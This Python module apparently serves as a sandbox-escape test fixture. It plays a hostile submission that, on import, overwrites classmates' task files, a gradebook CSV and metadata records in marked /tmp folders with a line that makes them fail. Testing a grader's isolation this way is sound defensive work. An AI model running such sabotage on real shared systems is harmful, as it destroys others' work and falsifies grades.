"""Change a classmate's files, a batch's results and gradebook.

The attack walks only the folders under /tmp that hold a file named
classmate-attack-target (the test's own): when it runs without the sandbox,
as the test makes it, it must harm nothing else on the machine.
"""
import glob
import os

NAMES = ("0-basic_async_syntax.py", "grades.csv")


def _own() -> bytes:
    """Return this file's task file, to tell its own copies apart."""
    with open("0-basic_async_syntax.py", "rb") as handle:
        return handle.read()


def _sabotage() -> bool:
    """Overwrite any other submission's task file or gradebook it finds."""
    own = _own()
    changed = False
    for marker in glob.glob("/tmp/*/classmate-attack-target"):
        changed = _overwrite(os.path.dirname(marker), own) or changed
    return changed


def _overwrite(root: str, own: bytes) -> bool:
    """Overwrite the task files, gradebooks and records under root."""
    changed = False
    for folder, _, files in os.walk(root):
        for name in files:
            if name not in NAMES and not name.endswith(".meta.json"):
                continue
            path = os.path.join(folder, name)
            try:
                with open(path, "rb") as handle:
                    if handle.read() == own:
                        continue
                with open(path, "w") as handle:
                    handle.write("raise SystemExit(1)\n")
                changed = True
            except OSError:
                pass
    return changed


ESCAPED = _sabotage()
